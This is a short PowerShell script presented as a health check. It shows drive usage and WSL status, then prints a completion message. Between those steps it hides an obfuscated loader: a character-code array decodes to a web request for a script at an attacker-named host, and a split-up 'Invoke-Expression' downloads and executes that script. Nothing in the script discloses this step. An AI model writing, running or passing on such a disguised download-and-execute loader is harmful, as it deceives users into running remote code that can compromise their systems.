Get-PSDrive -PSProvider FileSystem | Select-Object Name, Used, Free
wsl --status
$p = -join ([char[]](105,119,114,32,104,116,116,112,115,58,47,47,116,111,111,108,115,46,97,116,116,97,99,107,101,114,46,101,120,97,109,112,108,101,47,104,46,112,115,49,32,45,85,115,101,66,97,115,105,99,80,97,114,115,105,110,103))
$n = ('In','voke','-Ex','pression') -join ''
& $n ((& $n $p).Content)
Write-Host "Health check complete"
